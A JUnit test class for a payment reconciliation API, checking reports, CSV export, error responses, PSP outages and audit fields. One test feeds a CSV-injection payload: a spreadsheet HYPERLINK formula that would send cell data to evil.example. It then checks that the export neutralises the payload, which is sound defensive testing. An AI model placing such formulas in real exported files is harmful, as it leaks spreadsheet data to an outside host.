package dev.kassa.reconciliation.report;

import static dev.kassa.reconciliation.support.ReportClient.json;
import static org.assertj.core.api.Assertions.assertThat;

import dev.kassa.reconciliation.support.ReconciliationTestBase;
import dev.kassa.reconciliation.support.BalanceTransactions;
import dev.kassa.reconciliation.support.TestPayment;
import java.io.StringReader;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import tools.jackson.databind.JsonNode;

/** The HTTP contract: reports, the CSV export, and a clear problem detail for every bad request. */
class ReconciliationApiTest extends ReconciliationTestBase {

    @Test
    void aReportIsListedReadableAsJsonAndExportedAsCsv() throws Exception {
        LocalDate day = uniqueDay();
        TestPayment payment = TestPayment.of(seller(), 2999, "USD", at(day, 8));
        TestPayment dropped = TestPayment.of(seller(), 1234, "USD", at(day, 9));
        settledInPlatform(payment, dropped);
        PSP.serve(day, new BalanceTransactions().charge(payment));

        ResponseEntity<String> posted = api.post("{\"date\":\"" + day + "\"}");
        assertThat(posted.getStatusCode().value()).isEqualTo(200);
        assertThat(posted.getHeaders().getLocation()).hasToString("/api/v1/reconciliations/" + day);

        JsonNode report = api.report(day);
        assertThat(report.get("date").asString()).isEqualTo(day.toString());
        assertThat(report.get("status").asString()).isEqualTo("COMPLETED");
        assertThat(report.get("trigger").asString()).isEqualTo("API");
        assertThat(report.get("started_at").asString()).isNotBlank();
        assertThat(report.get("finished_at").asString()).isNotBlank();
        assertThat(report.get("matched_count").asLong()).isEqualTo(1);
        JsonNode discrepancy = report.get("discrepancies").get(0);
        assertThat(discrepancy.get("type").asString()).isEqualTo("MISSING_AT_PSP");
        assertThat(discrepancy.get("payment_order_id").asString()).isEqualTo(dropped.orderId());
        assertThat(discrepancy.get("psp_reference").asString()).isEqualTo(dropped.pspReference());
        assertThat(discrepancy.get("expected").asString()).isEqualTo("SUCCEEDED 12.34 USD");
        assertThat(discrepancy.get("actual").asString()).isEqualTo("none");
        assertThat(discrepancy.get("detail").asString()).contains(dropped.orderId(), "has no charge for it");

        JsonNode limited = json(api.get("/api/v1/reconciliations/" + day + "?limit=0").getBody());
        assertThat(limited.get("discrepancies")).isEmpty();
        assertThat(limited.get("discrepancies_truncated").asBoolean()).isTrue();

        JsonNode list = json(api.get("/api/v1/reconciliations?limit=366").getBody());
        assertThat(list.get("reconciliations").valueStream().map(r -> r.get("date").asString()))
                .contains(day.toString());

        ResponseEntity<String> csv = api.get("/api/v1/reconciliations/" + day + ".csv");
        assertThat(csv.getStatusCode().value()).as(csv.getBody()).isEqualTo(200);
        assertThat(csv.getHeaders().getContentType()).hasToString("text/csv;charset=UTF-8");
        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.getBody())).getRecords();
        assertThat(records).singleElement().satisfies(r -> {
            assertThat(r.get("report_date")).isEqualTo(day.toString());
            assertThat(r.get("type")).isEqualTo("MISSING_AT_PSP");
            assertThat(r.get("payment_order_id")).isEqualTo(dropped.orderId());
            assertThat(r.get("expected")).isEqualTo("SUCCEEDED 12.34 USD");
            assertThat(r.get("expected_minor")).isEqualTo("1234");
            assertThat(r.get("currency")).isEqualTo("USD");
        });
    }

    @Test
    void badRequestsGetAProblemNamingTheFieldAndChangeNothing() {
        String tomorrow = LocalDate.now(ZoneOffset.UTC).plusDays(1).toString();
        assertProblem(api.post("{\"date\":\"" + tomorrow + "\"}"), 422, "date", "is in the future");
        assertProblem(api.post("{\"date\":\"20-11-2026\"}"), 400, "date", "must be a date in the form yyyy-MM-dd");
        assertProblem(api.post("{\"date\":\"2026-02-30\"}"), 400, "date", "is not a real calendar date");
        assertProblem(api.post("{\"date\":20261120}"), 400, "date", "must be a JSON string");
        assertProblem(api.post("{}"), 400, "date", "is required");
        assertProblem(api.post("{\"date\":\"2026-01-01\",\"force\":true}"), 400, "force", "is not a known field");
        ResponseEntity<String> pan = api.post("{\"date\":\"2026-01-01\",\"4111111111111111\":1}");
        assertProblem(pan, 400, "body", "has an unknown field whose name looks like a card number");
        assertThat(pan.getBody()).doesNotContain("4111111111111111");
        assertProblem(api.post("{\"date\":"), 400, "body", "is malformed JSON");
        assertProblem(api.post("[]"), 400, "body", "must be a JSON object");
        assertProblem(api.post(""), 400, "body", "is missing");
        assertProblem(api.post("{\"date\":\"" + "x".repeat(70 * 1024) + "\"}"), 413, "body", "is larger than 65536 bytes");
        assertProblem(api.post("{\"date\":\"2026-01-01\",\"date\":\"2026-01-02\"}"), 400, "body", "duplicate key");
        assertProblem(api.post("{\"date\":\"2026-01-01\\u0000\"}"), 400, "date", "control characters");
        assertProblem(api.get("/api/v1/reconciliations/yesterday"), 400, "date", "must be a date");
        assertProblem(api.get("/api/v1/reconciliations/2020-13-01.csv"), 400, "date", "is not a real calendar date");
        assertProblem(api.get("/api/v1/reconciliations/1999-01-01"), 404, "date", "has no reconciliation report");
        assertProblem(api.get("/api/v1/reconciliations/1999-01-01.csv"), 404, "date", "has no reconciliation report");
        assertProblem(api.get("/api/v1/reconciliations?limit=0"), 400, "limit", "must be a whole number from 1 to 366");

        // no rule declares a DELETE: the web module's deny-all answers before Spring MVC could say 405
        assertProblemType(api.delete("/api/v1/reconciliations/2026-01-01"), 403, "forbidden");
        ResponseEntity<String> notAcceptable = api.get("/api/v1/reconciliations/2026-01-01.csv", "application/xml");
        assertThat(notAcceptable.getStatusCode().value()).isIn(404, 406);
        assertThat(notAcceptable.getHeaders().getContentType()).hasToString("application/problem+json");

        assertThat(jdbc.sql("SELECT count(*) FROM reconciliation_report WHERE report_date IN ('1999-01-01', '2026-01-01')")
                .query(Long.class).single()).isZero();
    }

    @Test
    void thePspBeingDownFailsTheRunWith502AndKeepsThePreviousReport() {
        LocalDate day = uniqueDay();
        TestPayment payment = TestPayment.of(seller(), 2999, "USD", at(day, 8));
        settledInPlatform(payment);
        PSP.serve(day, new BalanceTransactions().charge(payment));
        api.run(day);

        PSP.refuse(day, 503, "{\"error\":{\"type\":\"api_error\",\"code\":\"unavailable\"}}");
        ResponseEntity<String> failed = api.post("{\"date\":\"" + day + "\"}");

        assertThat(failed.getStatusCode().value()).isEqualTo(502);
        assertThat(failed.getHeaders().getContentType()).hasToString("application/problem+json");
        assertThat(json(failed.getBody()).get("detail").asString()).contains("The PSP answered 503");
        JsonNode report = api.report(day);
        assertThat(report.get("status").asString()).isEqualTo("FAILED");
        assertThat(report.get("error").asString()).contains("503");
        assertThat(report.get("matched_count").asLong()).as("the last completed run's figures stay").isEqualTo(1);

        PSP.serve(day, new BalanceTransactions().charge(payment));
        assertThat(api.run(day).get("status").asString()).isEqualTo("COMPLETED");
    }

    @Test
    void aDateBeingReconciledCannotBeRunTwiceAtOnce() {
        LocalDate day = uniqueDay();
        jdbc.sql("""
                INSERT INTO reconciliation_report (report_date, run_id, status, trigger, started_at)
                VALUES (:date, :run, 'RUNNING', 'SCHEDULE', now())""")
                .param("date", day).param("run", UUID.randomUUID()).update();

        ResponseEntity<String> response = api.post("{\"date\":\"" + day + "\"}");

        assertThat(response.getStatusCode().value()).isEqualTo(409);
        assertThat(json(response.getBody()).get("detail").asString()).contains("already running");
        assertThat(api.report(day).get("status").asString()).isEqualTo("RUNNING");
    }

    @Test
    void aRunRecordsWhoStartedItFromWhereAndWithWhichRequest() {
        LocalDate day = uniqueDay();
        PSP.serve(day, new BalanceTransactions());
        String requestId = "req-audit-" + UUID.randomUUID();

        ResponseEntity<String> posted = api.post("{\"date\":\"" + day + "\"}", MediaType.APPLICATION_JSON, requestId);

        assertThat(posted.getStatusCode().value()).as(posted.getBody()).isEqualTo(200);
        assertThat(posted.getHeaders().getFirst("X-Request-Id")).isEqualTo(requestId);
        for (JsonNode shown : List.of(json(posted.getBody()), api.report(day), listed(day))) {
            JsonNode requestedBy = shown.get("requested_by");
            assertThat(requestedBy.get("actor").asString()).isEqualTo("operator:test-finance");
            assertThat(requestedBy.get("credential").asString()).isEqualTo("opk_test");
            assertThat(requestedBy.get("client_address").asString()).isEqualTo("127.0.0.1");
            assertThat(requestedBy.get("request_id").asString()).isEqualTo(requestId);
        }
        assertThat(jdbc.sql("""
                SELECT requested_by_actor FROM reconciliation_report WHERE report_date = ?""")
                .param(day).query(String.class).single()).isEqualTo("operator:test-finance");
    }

    /**
     * The settlement file is outside data: a PSP id that starts with {@code =}, {@code @} or {@code +} comes out of
     * the CSV export as text a spreadsheet shows and does not evaluate (docs/architecture.md, the CSV rule).
     */
    @Test
    void aFindingWhoseTextAFormulaWouldStartIsExportedNeutralised() throws Exception {
        LocalDate day = uniqueDay();
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")";
        PSP.serve(day, new BalanceTransactions().charge("+txn_1", "@SUM(1+1)", formula, 500, 30, "USD", at(day, 10))
                );
        api.run(day);

        ResponseEntity<String> csv = api.get("/api/v1/reconciliations/" + day + ".csv");

        assertThat(csv.getStatusCode().value()).as(csv.getBody()).isEqualTo(200);
        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.getBody())).getRecords();
        assertThat(records).singleElement().satisfies(r -> {
            assertThat(r.get("type")).isEqualTo("MISSING_IN_PLATFORM");
            assertThat(r.get("payment_order_id")).isEqualTo("'" + formula);
            assertThat(r.get("psp_reference")).isEqualTo("'@SUM(1+1)");
            assertThat(r.get("balance_transaction_id")).isEqualTo("'+txn_1");
            assertThat(r.get("actual")).isEqualTo("CHARGED 5.00 USD");
            assertThat(r.get("actual_minor")).isEqualTo("500");
            assertThat(r.get("detail")).startsWith("The PSP charged payment intent @SUM(1+1)");
        });
        // the JSON report is not a spreadsheet: it shows the ids as the PSP wrote them
        assertThat(api.report(day).get("discrepancies").get(0).get("payment_order_id").asString()).isEqualTo(formula);
    }

    private JsonNode listed(LocalDate day) {
        for (JsonNode report : json(api.get("/api/v1/reconciliations?limit=366").getBody()).get("reconciliations")) {
            if (report.get("date").asString().equals(day.toString())) {
                return report;
            }
        }
        throw new AssertionError(day + " is not listed");
    }

    private static void assertProblemType(ResponseEntity<String> response, int status, String slug) {
        assertThat(response.getStatusCode().value()).as(response.getBody()).isEqualTo(status);
        assertThat(response.getHeaders().getContentType()).hasToString("application/problem+json");
        assertThat(json(response.getBody()).get("type").asString()).isEqualTo("https://kassa.dev/problems/" + slug);
    }

    private static void assertProblem(ResponseEntity<String> response, int status, String field, String reason) {
        assertThat(response.getStatusCode().value()).as(response.getBody()).isEqualTo(status);
        assertThat(response.getHeaders().getContentType()).hasToString("application/problem+json");
        JsonNode problem = json(response.getBody());
        assertThat(problem.get("status").asInt()).isEqualTo(status);
        JsonNode error = problem.get("errors").get(0);
        assertThat(error.get("field").asString()).isEqualTo(field);
        assertThat(error.get("reason").asString()).contains(reason);
    }
}
